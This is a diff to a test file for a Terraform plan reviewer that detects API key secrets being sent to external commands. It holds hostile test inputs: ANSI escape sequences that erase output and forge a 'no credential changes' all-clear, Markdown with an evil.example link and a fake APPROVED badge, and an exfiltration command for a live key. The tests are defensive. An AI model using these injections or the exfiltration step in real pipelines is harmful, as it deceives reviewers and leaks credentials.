@@ -56,14 +56,11 @@ ${
 `;
 }
 
-/**
- * As HCL source: erase the line, move up, erase again (three times), then a fake all-clear; then
- * Markdown that would render a link, an APPROVED badge and leave a code span.
- */
-const HOSTILE_HCL_NAME =
-  '\\u001b[2K\\u001b[1A\\u001b[2K\\r'.repeat(3) +
-  'keyform review: no keyform credential changes in this plan.\\n' +
-  '[click](https://evil.example/approve) **APPROVED** `` ` | x';
+/** As HCL source: erase the line, move up, erase again (three times), then a fake all-clear. */
+const HCL_ESCAPES = '\\u001b[2K\\u001b[1A\\u001b[2K\\r'.repeat(3) + 'keyform review: no keyform credential changes in this plan.\\n';
+
+/** Markdown that would render a link, an APPROVED badge and leave a code span. */
+const MARKDOWN_NAME = '[click](https://evil.example/approve) **APPROVED** `` ` | x';
 
 async function planFile(): Promise<string> {
   const r = await ws.run(['plan', '-input=false', '-out=tfplan']);
@@ -98,8 +95,17 @@ it('GIVEN a live key delivered to a file WHEN a pull request sends it to a curl 
   expect(json.rows[0].sentence).toContain(`will now be sent to command ${EXFIL}`);
 });
 
-it('GIVEN that change WHEN the same pull request adds a key whose name holds ESC sequences and Markdown THEN neither acts and the escalation row is still shown', async () => {
-  ws.write(config(`command = "${EXFIL}"`, HOSTILE_HCL_NAME));
+it('GIVEN a key whose name holds ESC sequences WHEN Terraform plans it THEN the provider refuses the plan naming the rule, so such a name never reaches a plan or the API', async () => {
+  ws.write(config(`command = "${EXFIL}"`, HCL_ESCAPES + MARKDOWN_NAME));
+  const r = await ws.run(['plan', '-input=false']);
+  expect(r.code).not.toBe(0);
+  expect(r.output).toContain('keyform_api_key.bait');
+  expect(r.output).toContain('[KF-RULE-004]');
+});
+
+it('GIVEN that change WHEN the same pull request hides ESC sequences in the delivery command and Markdown in a new key name THEN neither acts and the escalation row is still shown', async () => {
+  // Names refuse control characters at plan time; a delivery command is free text, so the escapes ride there.
+  ws.write(config(`command = "${EXFIL} #${HCL_ESCAPES}"`, MARKDOWN_NAME));
   const plan = await planFile();
 
   const text = await runReview(plan, { format: 'text', failOn: 'escalation' });
@@ -111,11 +117,11 @@ it('GIVEN that change WHEN the same pull request adds a key whose name holds ESC
 
   const md = (await runReview(plan, { format: 'markdown' })).report;
   expect(activeChars(md)).toEqual([]);
+  expect(md.split('\n').filter((l) => l.startsWith('keyform review: no'))).toEqual([]);
   const bait = md.split('\n').find((l) => l.includes('`keyform_api_key.bait`'));
   // The whole name sits in one code span (fence longer than its backticks), its pipe escaped.
-  expect(bait).toContain('| test | ``` \\x1b[2K');
-  expect(bait).toContain('[click](https://evil.example/approve) **APPROVED** `` ` \\| x ``` is a new `secret` key');
-  expect(md).toContain(`| **LIVE** | the secret of \`payments-svc\` (LIVE) will now be sent to command \`${EXFIL}\``);
+  expect(bait).toContain('| test | ``` [click](https://evil.example/approve) **APPROVED** `` ` \\| x ``` is a new `secret` key');
+  expect(md).toContain(`| **LIVE** | the secret of \`payments-svc\` (LIVE) will now be sent to command \`${EXFIL}`);
 
   const json = (await runReview(plan, { format: 'json' })).report;
   expect(() => JSON.parse(json)).not.toThrow();
